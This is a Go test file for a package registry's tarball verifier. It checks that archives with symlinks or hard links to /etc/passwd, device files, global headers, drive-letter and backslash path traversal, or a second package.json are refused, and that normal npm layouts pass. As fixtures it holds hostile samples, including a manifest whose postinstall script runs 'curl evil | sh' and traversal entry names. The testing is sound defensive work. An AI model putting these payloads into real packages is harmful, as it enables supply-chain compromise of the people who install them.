package registry

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"testing"
)

// TestTarballLinksAndOddEntriesRefused: an archive whose entries npm would
// extract as something else than the files the registry checked is refused
// at publish: links (to ../../etc/passwd or /etc/passwd), device files,
// named pipes, global headers (whose attributes node-tar applies to every
// later entry), Windows drive letters and backslash paths that climb out,
// and a second package.json that npm would extract over the checked one.
func TestTarballLinksAndOddEntriesRefused(t *testing.T) {
	manifest := file("package/package.json", goodManifest)
	index := file("package/index.js", "module.exports = 1\n")
	evil := `{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}`
	tests := []struct {
		name    string
		entries []tarEntry
		wantErr string
	}{
		{"symlink to a parent", []tarEntry{manifest, {name: "package/passwd", typeflag: tar.TypeSymlink, linkname: "../../etc/passwd"}},
			`entry "package/passwd" is a symbolic link: only regular files and directories are accepted`},
		{"symlink to an absolute path", []tarEntry{manifest, {name: "package/passwd", typeflag: tar.TypeSymlink, linkname: "/etc/passwd"}},
			"is a symbolic link"},
		{"hard link", []tarEntry{manifest, {name: "package/passwd", typeflag: tar.TypeLink, linkname: "/etc/passwd"}},
			"is a hard link"},
		{"character device", []tarEntry{manifest, {name: "package/tty", typeflag: tar.TypeChar}}, "is a device file"},
		{"block device", []tarEntry{manifest, {name: "package/sda", typeflag: tar.TypeBlock}}, "is a device file"},
		{"named pipe", []tarEntry{manifest, {name: "package/fifo", typeflag: tar.TypeFifo}}, "is a named pipe"},
		{"contiguous file", []tarEntry{manifest, {name: "package/c", typeflag: tar.TypeCont}}, "only regular files and directories"},
		{"drive letter", []tarEntry{manifest, file("C:/Windows/evil.dll", "")}, `unsafe path: "C:/Windows/evil.dll"`},
		{"drive letter without a slash", []tarEntry{manifest, file("c:evil", "")}, "unsafe path"},
		{"backslashes climbing out", []tarEntry{manifest, file(`package\..\..\x`, "")}, "unsafe path"},
		{"backslash absolute", []tarEntry{manifest, file(`\etc\passwd`, "")}, "unsafe path"},
		{"second manifest with a doubled slash", []tarEntry{manifest, file("package//package.json", evil)},
			"package/package.json appears more than once in the attached tarball"},
		{"second manifest with a dot", []tarEntry{manifest, file("package/./package.json", evil)},
			"package/package.json appears more than once"},
		{"second manifest in another top folder", []tarEntry{manifest, file("other/package.json", evil)},
			"package/package.json appears more than once"},
		{"second manifest before the first", []tarEntry{file("other/package.json", evil), manifest},
			"package/package.json appears more than once"},
		{"second manifest in another case", []tarEntry{manifest, file("package/Package.JSON", evil)},
			"package/package.json appears more than once"},
		{"second manifest with a backslash", []tarEntry{manifest, file(`package\package.json`, evil)},
			"package/package.json appears more than once"},
		{"a file twice", []tarEntry{manifest, index, file("package/./index.js", "evil()")},
			`attached tarball has two entries for the path "package/./index.js"`},
		{"a file twice across top folders", []tarEntry{manifest, index, file("x/index.js", "evil()")},
			"two entries for the path"},
		{"a folder over a file", []tarEntry{manifest, index, {name: "package/index.js/", typeflag: tar.TypeDir}},
			"two entries for the path"},
		{"a file over a folder", []tarEntry{manifest, {name: "package/lib/", typeflag: tar.TypeDir}, file("package/lib", "")},
			"two entries for the path"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := tgz(t, tt.entries...)
			_, err := VerifyTarball(data, checkFor(data))
			wantInvalid(t, err, tt.wantErr)
		})
	}

	t.Run("global header", func(t *testing.T) {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		if err := tw.WriteHeader(&tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "pax_global_header",
			PAXRecords: map[string]string{"comment": "size applies to every later entry in node-tar"}}); err != nil {
			t.Fatal(err)
		}
		writeFile(t, tw, "package/package.json", goodManifest)
		if err := tw.Close(); err != nil {
			t.Fatal(err)
		}
		data := gzipped(t, buf.Bytes())
		_, err := VerifyTarball(data, checkFor(data))
		wantInvalid(t, err, "is a global header")
	})
}

func writeFile(t *testing.T, tw *tar.Writer, name, body string) {
	t.Helper()
	if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
		t.Fatal(err)
	}
	if _, err := tw.Write([]byte(body)); err != nil {
		t.Fatal(err)
	}
}

// TestTarballOrdinaryLayoutsAccepted: what npm pack, yarn and git archive
// produce still passes: folders (repeated, or before their files), a
// leading ./, a top folder other than package for other files.
func TestTarballOrdinaryLayoutsAccepted(t *testing.T) {
	tests := []struct {
		name    string
		entries []tarEntry
	}{
		{"folders first", []tarEntry{{name: "package/", typeflag: tar.TypeDir}, {name: "package/lib/", typeflag: tar.TypeDir},
			file("package/package.json", goodManifest), file("package/lib/a.js", "")}},
		{"a folder twice", []tarEntry{{name: "package/lib/", typeflag: tar.TypeDir}, {name: "./package/lib", typeflag: tar.TypeDir},
			file("package/package.json", goodManifest)}},
		{"leading ./ everywhere", []tarEntry{{name: "./", typeflag: tar.TypeDir}, file("./package/package.json", goodManifest),
			file("./package/README.md", "")}},
		{"files named like the manifest deeper down", []tarEntry{file("package/package.json", goodManifest),
			file("package/lib/package.json", `{"type":"module"}`), file("package/test/fixtures/package.json", "{}")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := tgz(t, tt.entries...)
			if _, err := VerifyTarball(data, checkFor(data)); err != nil {
				t.Fatalf("VerifyTarball: %v", err)
			}
		})
	}
}

// TestTarballEntryCountBounded: an archive of a great many tiny entries
// (each costs the check a little memory) is refused past maxTarEntries.
func TestTarballEntryCountBounded(t *testing.T) {
	build := func(n int) []byte {
		var buf bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&buf, gzip.BestSpeed)
		tw := tar.NewWriter(zw)
		writeFile(t, tw, "package/package.json", goodManifest)
		for i := 1; i < n; i++ {
			if err := tw.WriteHeader(&tar.Header{Name: fmt.Sprintf("package/%d", i), Mode: 0o644, Typeflag: tar.TypeReg}); err != nil {
				t.Fatal(err)
			}
		}
		if err := tw.Close(); err != nil {
			t.Fatal(err)
		}
		if err := zw.Close(); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	at := build(maxTarEntries)
	if _, err := VerifyTarball(at, checkFor(at)); err != nil {
		t.Fatalf("an archive of exactly %d entries: %v", maxTarEntries, err)
	}
	over := build(maxTarEntries + 1)
	_, err := VerifyTarball(over, checkFor(over))
	wantInvalid(t, err, fmt.Sprintf("attached tarball has more than %d entries", maxTarEntries))
}

// TestEntryPath holds the normalisation every entry name goes through.
func TestEntryPath(t *testing.T) {
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"package/package.json", "package/package.json", true},
		{"./package/package.json", "package/package.json", true},
		{"package//package.json", "package/package.json", true},
		{"package/./a/./b", "package/a/b", true},
		{`package\lib\a.js`, "package/lib/a.js", true},
		{"./", ".", true},
		{"package/", "package", true},
		{"", "", false},
		{"/etc/passwd", "", false},
		{`\etc\passwd`, "", false},
		{"C:/x", "", false},
		{"z:x", "", false},
		{"package/../x", "", false},
		{`package\..\x`, "", false},
		{"..", "", false},
		{"a\x00b", "", false},
		{"1:x", "1:x", true}, // not a drive letter
	}
	for _, tt := range tests {
		got, ok := entryPath(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("entryPath(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}
